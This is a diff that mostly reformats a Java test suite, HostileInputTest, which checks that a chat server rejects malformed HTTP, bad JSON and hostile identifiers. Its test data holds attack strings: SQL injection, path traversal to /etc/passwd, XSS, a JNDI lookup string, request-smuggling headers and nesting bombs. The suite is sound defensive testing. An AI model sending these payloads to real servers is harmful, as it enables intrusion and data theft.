@@ -22,9 +22,8 @@ import org.junit.jupiter.params.provider.ValueSource;
 
 /**
  * Bad input never hurts: malformed HTTP, bad JSON, wrong JSON types and hostile ids
- * (injection-looking strings, path traversal) get a 4xx (or the 5xx HTTP itself prescribes)
- * with the contract's error shape; the server keeps serving and the stored data is exactly
- * what it was.
+ * (injection-looking strings, path traversal) get a 4xx (or the 5xx HTTP itself prescribes) with
+ * the contract's error shape; the server keeps serving and the stored data is exactly what it was.
  */
 final class HostileInputTest {
   @TempDir static Path dir;
@@ -39,7 +38,9 @@ final class HostileInputTest {
     api = new Api(server.port());
     token = api.signUp("owner", "owner-password");
     api.register("other", "other-password");
-    assertEquals(201, api.call("POST", "/api/rooms", "{\"roomId\":\"secret\",\"private\":true}", token).status());
+    assertEquals(
+        201,
+        api.call("POST", "/api/rooms", "{\"roomId\":\"secret\",\"private\":true}", token).status());
     try (ChatSocket s = ChatSocket.signedIn(server.port(), token)) {
       s.join("general");
       for (int i = 0; i < 5; i++) {
@@ -65,14 +66,25 @@ final class HostileInputTest {
   private static String snapshot() {
     StringBuilder s = new StringBuilder();
     for (String user : List.of("owner", "other")) {
-      assertEquals(201, api.call("POST", "/api/sessions", Api.loginBody(user, user + "-password"), null).status());
+      assertEquals(
+          201,
+          api.call("POST", "/api/sessions", Api.loginBody(user, user + "-password"), null)
+              .status());
     }
     JsonNode rooms = api.call("GET", "/api/rooms", null, token).body().get("rooms");
     for (JsonNode r : rooms) {
       String id = r.get("roomId").asText();
       JsonNode described = api.call("GET", "/api/rooms/" + Api.encode(id), null, token).body();
-      s.append(id).append(' ').append(r.get("name")).append(' ').append(r.get("private"))
-          .append(' ').append(described.get("memberIds")).append(' ').append(r.get("lastSeq")).append('\n');
+      s.append(id)
+          .append(' ')
+          .append(r.get("name"))
+          .append(' ')
+          .append(r.get("private"))
+          .append(' ')
+          .append(described.get("memberIds"))
+          .append(' ')
+          .append(r.get("lastSeq"))
+          .append('\n');
       for (JsonNode m : api.history(token, id)) s.append("  ").append(m).append('\n');
     }
     return s.toString();
@@ -92,30 +104,31 @@ final class HostileInputTest {
   // ---- malformed HTTP ----
 
   @ParameterizedTest
-  @ValueSource(strings = {
-      "HELLO\r\n\r\n",
-      "GET\r\n\r\n",
-      "GET /api/health\r\n\r\n",
-      "GET  /api/health HTTP/1.1\r\nHost: x\r\n\r\n",
-      "GET /api/health HTTP/1.1\r\n\r\n",
-      "GET /api/health HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
-      "GET /api/health HTTP/1.1\r\nHost: x\r\nNo colon here\r\n\r\n",
-      "GET /api/health HTTP/1.1\r\nHost: x\r\nX-A: 1\r\n folded\r\n\r\n",
-      "GET /api/health HTTP/1.1\r\nHost: x\r\nX-A : 1\r\n\r\n",
-      "GET /api/health HTTP/1.1\r\nHost: x\r\nX-A: a\u0000b\r\n\r\n",
-      "GET /api/he\u0001alth HTTP/1.1\r\nHost: x\r\n\r\n",
-      "GET /api/%zz HTTP/1.1\r\nHost: x\r\n\r\n",
-      "GET /api/health#frag HTTP/1.1\r\nHost: x\r\n\r\n",
-      "GET * HTTP/1.1\r\nHost: x\r\n\r\n",
-      "GET /api/health http/1.1\r\nHost: x\r\n\r\n",
-      "POST /api/users HTTP/1.1\r\nHost: x\r\nContent-Length: abc\r\n\r\n",
-      "POST /api/users HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
-      "POST /api/users HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello!",
-      "POST /api/users HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
-      "POST /api/users HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
-      "POST /api/users HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n",
-      "POST /api/users HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
-  })
+  @ValueSource(
+      strings = {
+        "HELLO\r\n\r\n",
+        "GET\r\n\r\n",
+        "GET /api/health\r\n\r\n",
+        "GET  /api/health HTTP/1.1\r\nHost: x\r\n\r\n",
+        "GET /api/health HTTP/1.1\r\n\r\n",
+        "GET /api/health HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
+        "GET /api/health HTTP/1.1\r\nHost: x\r\nNo colon here\r\n\r\n",
+        "GET /api/health HTTP/1.1\r\nHost: x\r\nX-A: 1\r\n folded\r\n\r\n",
+        "GET /api/health HTTP/1.1\r\nHost: x\r\nX-A : 1\r\n\r\n",
+        "GET /api/health HTTP/1.1\r\nHost: x\r\nX-A: a\u0000b\r\n\r\n",
+        "GET /api/he\u0001alth HTTP/1.1\r\nHost: x\r\n\r\n",
+        "GET /api/%zz HTTP/1.1\r\nHost: x\r\n\r\n",
+        "GET /api/health#frag HTTP/1.1\r\nHost: x\r\n\r\n",
+        "GET * HTTP/1.1\r\nHost: x\r\n\r\n",
+        "GET /api/health http/1.1\r\nHost: x\r\n\r\n",
+        "POST /api/users HTTP/1.1\r\nHost: x\r\nContent-Length: abc\r\n\r\n",
+        "POST /api/users HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
+        "POST /api/users HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello!",
+        "POST /api/users HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
+        "POST /api/users HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
+        "POST /api/users HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n",
+        "POST /api/users HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
+      })
   void malformedRequestIs400AndClosesTheConnection(String request) {
     try (RawHttp http = new RawHttp(server.port())) {
       RawHttp.Response r = http.send(request.getBytes(StandardCharsets.ISO_8859_1));
@@ -126,9 +139,16 @@ final class HostileInputTest {
 
   @Test
   void unsupportedVersionAndCodingGetTheirOwnStatusWithTheErrorShape() {
-    assertError(RawHttp.exchange(server.port(), "GET /api/health HTTP/2.0\r\nHost: x\r\n\r\n"), 505, "bad_request");
-    assertError(RawHttp.exchange(server.port(),
-        "POST /api/users HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip\r\n\r\n"), 501, "bad_request");
+    assertError(
+        RawHttp.exchange(server.port(), "GET /api/health HTTP/2.0\r\nHost: x\r\n\r\n"),
+        505,
+        "bad_request");
+    assertError(
+        RawHttp.exchange(
+            server.port(),
+            "POST /api/users HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip\r\n\r\n"),
+        501,
+        "bad_request");
   }
 
   @Test
@@ -149,19 +169,29 @@ final class HostileInputTest {
   // ---- bad JSON and wrong types ----
 
   @ParameterizedTest
-  @ValueSource(strings = {
-      "", "not json", "{", "}", "[]", "null", "123", "\"a string\"", "{} trailing", "{\"userId\":\"a\",}",
-      "{\"userId\":123,\"password\":\"long-enough\"}",
-      "{\"userId\":[\"x\"],\"password\":\"long-enough\"}",
-      "{\"userId\":\"typed\",\"password\":true}",
-      "{\"userId\":\"typed\",\"password\":12345678}",
-      "{\"userId\":\"typed\",\"password\":\"long-enough\",\"name\":{\"a\":1}}",
-      "{\"userId\":\"typed\",\"password\":\"long-enough\",\"email\":[]}",
-      "{\"userId\":null,\"password\":\"long-enough\"}",
-      "{\"userId\":\"typed\",\"password\":\"short\"}",
-      "{\"userId\":\"typed\",\"password\":\"long-enough\",\"email\":\"no-at-sign\"}",
-      "{\"userId\":\"typed\",\"password\":\"long-enough\",\"x\":123456789012345678901234567890123456789}",
-  })
+  @ValueSource(
+      strings = {
+        "",
+        "not json",
+        "{",
+        "}",
+        "[]",
+        "null",
+        "123",
+        "\"a string\"",
+        "{} trailing",
+        "{\"userId\":\"a\",}",
+        "{\"userId\":123,\"password\":\"long-enough\"}",
+        "{\"userId\":[\"x\"],\"password\":\"long-enough\"}",
+        "{\"userId\":\"typed\",\"password\":true}",
+        "{\"userId\":\"typed\",\"password\":12345678}",
+        "{\"userId\":\"typed\",\"password\":\"long-enough\",\"name\":{\"a\":1}}",
+        "{\"userId\":\"typed\",\"password\":\"long-enough\",\"email\":[]}",
+        "{\"userId\":null,\"password\":\"long-enough\"}",
+        "{\"userId\":\"typed\",\"password\":\"short\"}",
+        "{\"userId\":\"typed\",\"password\":\"long-enough\",\"email\":\"no-at-sign\"}",
+        "{\"userId\":\"typed\",\"password\":\"long-enough\",\"x\":123456789012345678901234567890123456789}",
+      })
   void badRegistrationBodiesAre400(String body) {
     Api.Reply r = api.call("POST", "/api/users", body, null);
     assertEquals(400, r.status(), body + " -> " + r.raw());
@@ -170,7 +200,11 @@ final class HostileInputTest {
 
   @Test
   void deeplyNestedJsonIs400() {
-    String deep = "{\"userId\":\"deep\",\"password\":\"long-enough\",\"x\":" + "[".repeat(100_000) + "]".repeat(100_000) + "}";
+    String deep =
+        "{\"userId\":\"deep\",\"password\":\"long-enough\",\"x\":"
+            + "[".repeat(100_000)
+            + "]".repeat(100_000)
+            + "}";
     Api.Reply r = api.call("POST", "/api/users", deep, null);
     assertEquals(400, r.status(), r.raw());
   }
@@ -181,25 +215,30 @@ final class HostileInputTest {
     byte[] suffix = "\"}".getBytes(StandardCharsets.US_ASCII);
     ByteArrayOutputStream body = new ByteArrayOutputStream();
     body.writeBytes(prefix);
-    body.writeBytes(new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF, (byte) 0xFE, 0x41, 0x41, 0x41, 0x41, 0x41});
+    body.writeBytes(
+        new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF, (byte) 0xFE, 0x41, 0x41, 0x41, 0x41, 0x41});
     body.writeBytes(suffix);
     ByteArrayOutputStream request = new ByteArrayOutputStream();
-    request.writeBytes(("POST /api/users HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: "
-        + body.size() + "\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
+    request.writeBytes(
+        ("POST /api/users HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: "
+                + body.size()
+                + "\r\n\r\n")
+            .getBytes(StandardCharsets.US_ASCII));
     request.writeBytes(body.toByteArray());
     assertError(RawHttp.exchange(server.port(), request.toByteArray()), 400, "bad_request");
   }
 
   @ParameterizedTest
-  @ValueSource(strings = {
-      "{\"roomId\":\"typed\",\"private\":\"yes\"}",
-      "{\"roomId\":\"typed\",\"private\":1}",
-      "{\"roomId\":\"typed\",\"participants\":\"other\"}",
-      "{\"roomId\":\"typed\",\"participants\":[1,2]}",
-      "{\"roomId\":\"typed\",\"participants\":[\"../owner\"]}",
-      "{\"roomId\":42}",
-      "{\"roomId\":\"typed\",\"name\":[\"n\"]}",
-  })
+  @ValueSource(
+      strings = {
+        "{\"roomId\":\"typed\",\"private\":\"yes\"}",
+        "{\"roomId\":\"typed\",\"private\":1}",
+        "{\"roomId\":\"typed\",\"participants\":\"other\"}",
+        "{\"roomId\":\"typed\",\"participants\":[1,2]}",
+        "{\"roomId\":\"typed\",\"participants\":[\"../owner\"]}",
+        "{\"roomId\":42}",
+        "{\"roomId\":\"typed\",\"name\":[\"n\"]}",
+      })
   void badRoomBodiesAre400(String body) {
     Api.Reply r = api.call("POST", "/api/rooms", body, token);
     assertEquals(400, r.status(), body + " -> " + r.raw());
@@ -207,10 +246,20 @@ final class HostileInputTest {
   }
 
   @ParameterizedTest
-  @ValueSource(strings = {
-      "before=abc", "after=1.5", "limit=0", "limit=201", "limit=-1", "after=-5", "before=-1",
-      "before=99999999999999999999", "limit=1e2", "before=1%20OR%201=1", "limit=%00",
-  })
+  @ValueSource(
+      strings = {
+        "before=abc",
+        "after=1.5",
+        "limit=0",
+        "limit=201",
+        "limit=-1",
+        "after=-5",
+        "before=-1",
+        "before=99999999999999999999",
+        "limit=1e2",
+        "before=1%20OR%201=1",
+        "limit=%00",
+      })
   void badHistoryQueriesAre400(String query) {
     Api.Reply r = api.call("GET", "/api/rooms/general/messages?" + query, null, token);
     assertEquals(400, r.status(), query + " -> " + r.raw());
@@ -218,72 +267,138 @@ final class HostileInputTest {
   }
 
   @ParameterizedTest
-  @ValueSource(strings = {"", "Bearer", "Bearer ", "Basic b3duZXI6b3duZXI=", "Bearer ' OR '1'='1", "Bearer ../../etc/passwd"})
+  @ValueSource(
+      strings = {
+        "",
+        "Bearer",
+        "Bearer ",
+        "Basic b3duZXI6b3duZXI=",
+        "Bearer ' OR '1'='1",
+        "Bearer ../../etc/passwd"
+      })
   void badAuthorizationIs401(String header) {
-    String request = "GET /api/rooms HTTP/1.1\r\nHost: x\r\n" + (header.isEmpty() ? "" : "Authorization: " + header + "\r\n") + "\r\n";
+    String request =
+        "GET /api/rooms HTTP/1.1\r\nHost: x\r\n"
+            + (header.isEmpty() ? "" : "Authorization: " + header + "\r\n")
+            + "\r\n";
     assertError(RawHttp.exchange(server.port(), request), 401, "unauthorized");
   }
 
   // ---- hostile ids ----
 
   @ParameterizedTest
-  @ValueSource(strings = {
-      "'; DROP TABLE users; --", "owner' --", "owner\" OR \"1\"=\"1", "../../etc/passwd", "..\\..\\windows",
-      "<script>alert(1)</script>", "owner\u0000", "owner\n", "own er", "", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "\u00e9l\u00e8ve",
-      "%27%20OR%201%3D1", "${jndi:ldap://x/a}",
-  })
+  @ValueSource(
+      strings = {
+        "'; DROP TABLE users; --",
+        "owner' --",
+        "owner\" OR \"1\"=\"1",
+        "../../etc/passwd",
+        "..\\..\\windows",
+        "<script>alert(1)</script>",
+        "owner\u0000",
+        "owner\n",
+        "own er",
+        "",
+        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
+        "\u00e9l\u00e8ve",
+        "%27%20OR%201%3D1",
+        "${jndi:ldap://x/a}",
+      })
   void hostileUserIdsAreRefused(String userId) {
-    Api.Reply r = api.call("POST", "/api/users",
-        Api.JSON.createObjectNode().put("userId", userId).put("password", "long-enough").toString(), null);
+    Api.Reply r =
+        api.call(
+            "POST",
+            "/api/users",
+            Api.JSON
+                .createObjectNode()
+                .put("userId", userId)
+                .put("password", "long-enough")
+                .toString(),
+            null);
     assertEquals(400, r.status(), r.raw());
     assertEquals("bad_request", r.errorCode());
-    Api.Reply login = api.call("POST", "/api/sessions", Api.loginBody(userId, "owner-password"), null);
+    Api.Reply login =
+        api.call("POST", "/api/sessions", Api.loginBody(userId, "owner-password"), null);
     assertClientError(login);
   }
 
   @ParameterizedTest
-  @ValueSource(strings = {
-      "general'; DROP TABLE messages; --", "general/../secret", "../secret", "secret%00", " general", "general ",
-      "<img src=x onerror=alert(1)>", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "gen\teral",
-  })
+  @ValueSource(
+      strings = {
+        "general'; DROP TABLE messages; --",
+        "general/../secret",
+        "../secret",
+        "secret%00",
+        " general",
+        "general ",
+        "<img src=x onerror=alert(1)>",
+        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
+        "gen\teral",
+      })
   void hostileRoomIdsAreRefused(String roomId) {
-    Api.Reply r = api.call("POST", "/api/rooms", Api.JSON.createObjectNode().put("roomId", roomId).toString(), token);
+    Api.Reply r =
+        api.call(
+            "POST",
+            "/api/rooms",
+            Api.JSON.createObjectNode().put("roomId", roomId).toString(),
+            token);
     assertEquals(400, r.status(), r.raw());
     assertEquals("bad_request", r.errorCode());
   }
 
   @ParameterizedTest
-  @ValueSource(strings = {
-      "/api/rooms/general'%3B%20DROP%20TABLE%20rooms%3B%20--/messages",
-      "/api/rooms/general%2F..%2Fsecret/messages",
-      "/api/rooms/%2e%2e%2fsecret",
-      "/api/rooms/..%2F..%2F..%2Fetc%2Fpasswd",
-      "/api/rooms/general%00/messages",
-      "/api/rooms/general/members/'%20OR%201%3D1",
-      "/api/rooms/general/members/..%2F..%2Fowner",
-      "/api/users/../sessions",
-      "/api/../api/rooms/secret",
-  })
+  @ValueSource(
+      strings = {
+        "/api/rooms/general'%3B%20DROP%20TABLE%20rooms%3B%20--/messages",
+        "/api/rooms/general%2F..%2Fsecret/messages",
+        "/api/rooms/%2e%2e%2fsecret",
+        "/api/rooms/..%2F..%2F..%2Fetc%2Fpasswd",
+        "/api/rooms/general%00/messages",
+        "/api/rooms/general/members/'%20OR%201%3D1",
+        "/api/rooms/general/members/..%2F..%2Fowner",
+        "/api/users/../sessions",
+        "/api/../api/rooms/secret",
+      })
   void hostilePathsAre4xxAndRevealNothing(String path) {
-    RawHttp.Response r = RawHttp.exchange(server.port(),
-        "GET " + path + " HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + token + "\r\nConnection: close\r\n\r\n");
+    RawHttp.Response r =
+        RawHttp.exchange(
+            server.port(),
+            "GET "
+                + path
+                + " HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "
+                + token
+                + "\r\nConnection: close\r\n\r\n");
     assertTrue(r.status() >= 400 && r.status() < 500, path + " -> " + r.head());
     r.errorCode();
-    assertFalse(new String(r.body(), StandardCharsets.UTF_8).contains("message 0"), "no history leaked");
+    assertFalse(
+        new String(r.body(), StandardCharsets.UTF_8).contains("message 0"), "no history leaked");
   }
 
   @ParameterizedTest
-  @ValueSource(strings = {
-      "/../../../../etc/passwd", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/..%2f..%2f..%2fetc%2fpasswd",
-      "/static/../../pom.xml", "//etc/passwd", "/index.html/../../../../etc/passwd", "/.git/config",
-      "/chat.db", "/%2e%2e%5c%2e%2e%5cpom.xml", "/api/../../chat.db", "http://localhost/../../etc/passwd", "/",
-  })
+  @ValueSource(
+      strings = {
+        "/../../../../etc/passwd",
+        "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
+        "/..%2f..%2f..%2fetc%2fpasswd",
+        "/static/../../pom.xml",
+        "//etc/passwd",
+        "/index.html/../../../../etc/passwd",
+        "/.git/config",
+        "/chat.db",
+        "/%2e%2e%5c%2e%2e%5cpom.xml",
+        "/api/../../chat.db",
+        "http://localhost/../../etc/passwd",
+        "/",
+      })
   void staticPathTraversalFindsNothing(String target) {
-    RawHttp.Response r = RawHttp.exchange(server.port(), "GET " + target + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
+    RawHttp.Response r =
+        RawHttp.exchange(
+            server.port(), "GET " + target + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
     assertTrue(r.status() == 404 || r.status() == 400, target + " -> " + r.head());
     r.errorCode();
     String body = new String(r.body(), StandardCharsets.UTF_8);
-    assertFalse(body.contains("root:") || body.contains("<project") || body.contains("SQLite"), body);
+    assertFalse(
+        body.contains("root:") || body.contains("<project") || body.contains("SQLite"), body);
   }
 
   // ---- the chat socket ----
@@ -291,24 +406,45 @@ final class HostileInputTest {
   @Test
   void hostileSocketMessagesAreRecoverableErrors() {
     try (ChatSocket s = ChatSocket.signedIn(server.port(), token)) {
-      List<String> bad = new ArrayList<>(List.of(
-          "not json", "[]", "\"str\"", "1e400", "null", "{}", "{\"type\":null}", "{\"type\":5}", "{\"type\":[\"send\"]}",
-          "{\"type\":\"bogus\"}", "{\"type\":\"join\"}", "{\"type\":\"join\",\"room\":123}",
-          "{\"type\":\"join\",\"room\":\"general\",\"since\":\"5\"}", "{\"type\":\"join\",\"room\":\"general\",\"since\":1.5}",
-          "{\"type\":\"join\",\"room\":\"general\",\"since\":-1}",
-          "{\"type\":\"join\",\"room\":\"secret' OR '1'='1\"}", "{\"type\":\"join\",\"room\":\"../secret\"}",
-          "{\"type\":\"send\",\"room\":\"general\",\"text\":{\"a\":1}}",
-          "{\"type\":\"send\",\"room\":\"general\",\"text\":\"x\",\"ref\":\"" + "r".repeat(65) + "\"}",
-          "{\"type\":\"send\",\"room\":\"general' --\",\"text\":\"x\"}",
-          "{\"type\":\"history\",\"room\":\"general\",\"limit\":\"5\"}", "{\"type\":\"history\",\"room\":\"general\",\"limit\":100000}",
-          "{\"type\":\"history\",\"room\":\"general\",\"before\":1e99}", "{\"type\":\"history\",\"room\":\"secret%00\"}",
-          "{\"type\":\"leave\",\"room\":\"general\"}", "{\"type\":\"hello\",\"token\":\"again\"}",
-          "{\"type\":\"rooms\"" + ",\"x\":[".repeat(1000) + "]".repeat(1000) + "}"));
+      List<String> bad =
+          new ArrayList<>(
+              List.of(
+                  "not json",
+                  "[]",
+                  "\"str\"",
+                  "1e400",
+                  "null",
+                  "{}",
+                  "{\"type\":null}",
+                  "{\"type\":5}",
+                  "{\"type\":[\"send\"]}",
+                  "{\"type\":\"bogus\"}",
+                  "{\"type\":\"join\"}",
+                  "{\"type\":\"join\",\"room\":123}",
+                  "{\"type\":\"join\",\"room\":\"general\",\"since\":\"5\"}",
+                  "{\"type\":\"join\",\"room\":\"general\",\"since\":1.5}",
+                  "{\"type\":\"join\",\"room\":\"general\",\"since\":-1}",
+                  "{\"type\":\"join\",\"room\":\"secret' OR '1'='1\"}",
+                  "{\"type\":\"join\",\"room\":\"../secret\"}",
+                  "{\"type\":\"send\",\"room\":\"general\",\"text\":{\"a\":1}}",
+                  "{\"type\":\"send\",\"room\":\"general\",\"text\":\"x\",\"ref\":\""
+                      + "r".repeat(65)
+                      + "\"}",
+                  "{\"type\":\"send\",\"room\":\"general' --\",\"text\":\"x\"}",
+                  "{\"type\":\"history\",\"room\":\"general\",\"limit\":\"5\"}",
+                  "{\"type\":\"history\",\"room\":\"general\",\"limit\":100000}",
+                  "{\"type\":\"history\",\"room\":\"general\",\"before\":1e99}",
+                  "{\"type\":\"history\",\"room\":\"secret%00\"}",
+                  "{\"type\":\"leave\",\"room\":\"general\"}",
+                  "{\"type\":\"hello\",\"token\":\"again\"}",
+                  "{\"type\":\"rooms\"" + ",\"x\":[".repeat(1000) + "]".repeat(1000) + "}"));
       for (String message : bad) {
         s.sendText(message);
         JsonNode reply = s.nextMatching(f -> !f.path("type").asText().equals("presence"));
         assertEquals("error", reply.get("type").asText(), message + " -> " + reply);
-        assertTrue(List.of("bad_request", "not_found").contains(reply.get("code").asText()), message + " -> " + reply);
+        assertTrue(
+            List.of("bad_request", "not_found").contains(reply.get("code").asText()),
+            message + " -> " + reply);
       }
       s.sendText("{\"type\":\"rooms\"}");
       assertEquals("rooms", s.nextOfType("rooms").get("type").asText());
@@ -322,7 +458,8 @@ final class HostileInputTest {
     try (ChatSocket s = ChatSocket.signedIn(server.port(), author)) {
       s.join("general");
       for (String escaped : List.of("a\\ud800b", "a\\udc00b", "\\udbff", "\\ude00\\ud83d")) {
-        s.sendText("{\"type\":\"send\",\"room\":\"general\",\"text\":\"" + escaped + "\",\"ref\":\"r\"}");
+        s.sendText(
+            "{\"type\":\"send\",\"room\":\"general\",\"text\":\"" + escaped + "\",\"ref\":\"r\"}");
         JsonNode reply = s.nextMatching(f -> !f.path("type").asText().equals("presence"));
         assertEquals("error", reply.get("type").asText(), escaped + " -> " + reply);
         assertEquals("bad_request", reply.get("code").asText());
@@ -330,9 +467,18 @@ final class HostileInputTest {
       s.sendText("{\"type\":\"send\",\"room\":\"general\",\"text\":\"fine\",\"ref\":\"\\ud800\"}");
       assertEquals("bad_request", s.nextOfType("error").get("code").asText());
     }
-    assertEquals(400, api.call("POST", "/api/rooms", "{\"roomId\":\"named\",\"name\":\"a\\ud800\"}", author).status());
-    assertEquals(400, api.call("POST", "/api/users",
-        "{\"userId\":\"named\",\"password\":\"long-enough\",\"name\":\"\\udc00\"}", null).status());
+    assertEquals(
+        400,
+        api.call("POST", "/api/rooms", "{\"roomId\":\"named\",\"name\":\"a\\ud800\"}", author)
+            .status());
+    assertEquals(
+        400,
+        api.call(
+                "POST",
+                "/api/users",
+                "{\"userId\":\"named\",\"password\":\"long-enough\",\"name\":\"\\udc00\"}",
+                null)
+            .status());
     before = snapshot(); // escaper joined general
   }
 
@@ -345,7 +491,9 @@ final class HostileInputTest {
       s.sendText("{\"type\":\"send\",\"room\":\"escapes\",\"text\":\"x\\u0000y \\ud83d\\ude00\"}");
       JsonNode delivered = s.nextOfType("message");
       assertEquals("x\u0000y \ud83d\ude00", delivered.get("text").asText());
-      assertEquals(delivered.get("text").asText(), api.history(author, "escapes").get(0).get("text").asText());
+      assertEquals(
+          delivered.get("text").asText(),
+          api.history(author, "escapes").get(0).get("text").asText());
     }
     assertEquals(204, api.call("DELETE", "/api/rooms/escapes/members/nul", null, author).status());
     before = snapshot();
@@ -356,20 +504,31 @@ final class HostileInputTest {
     String author = api.signUp("poet", "poet-password");
     api.call("POST", "/api/rooms", "{\"roomId\":\"verbatim\"}", author);
     String[] texts = {
-        "'); DROP TABLE messages; --", "\" OR 1=1 --", "<script>alert('x')</script>", "${jndi:ldap://evil/a}",
-        "%s%s%s%n", "\u202eevil\u202c", "line\nbreak\ttab", "emoji \ud83d\ude00 and CJK \u4e2d\u6587", "back\\slash \"quotes\"",
+      "'); DROP TABLE messages; --",
+      "\" OR 1=1 --",
+      "<script>alert('x')</script>",
+      "${jndi:ldap://evil/a}",
+      "%s%s%s%n",
+      "\u202eevil\u202c",
+      "line\nbreak\ttab",
+      "emoji \ud83d\ude00 and CJK \u4e2d\u6587",
+      "back\\slash \"quotes\"",
     };
     try (ChatSocket s = ChatSocket.signedIn(server.port(), author)) {
       s.join("verbatim");
       for (String t : texts) {
         s.sendMessage("verbatim", t, null);
-        assertEquals("ack", s.nextMatching(f -> !f.path("type").asText().equals("message")).get("type").asText());
+        assertEquals(
+            "ack",
+            s.nextMatching(f -> !f.path("type").asText().equals("message")).get("type").asText());
       }
     }
     List<JsonNode> history = api.history(author, "verbatim");
     assertEquals(texts.length, history.size());
-    for (int i = 0; i < texts.length; i++) assertEquals(texts[i].strip(), history.get(i).get("text").asText());
-    assertEquals(204, api.call("DELETE", "/api/rooms/verbatim/members/poet", null, author).status());
+    for (int i = 0; i < texts.length; i++)
+      assertEquals(texts[i].strip(), history.get(i).get("text").asText());
+    assertEquals(
+        204, api.call("DELETE", "/api/rooms/verbatim/members/poet", null, author).status());
     // leave this test's additions out of the snapshot comparison
     before = snapshot();
   }
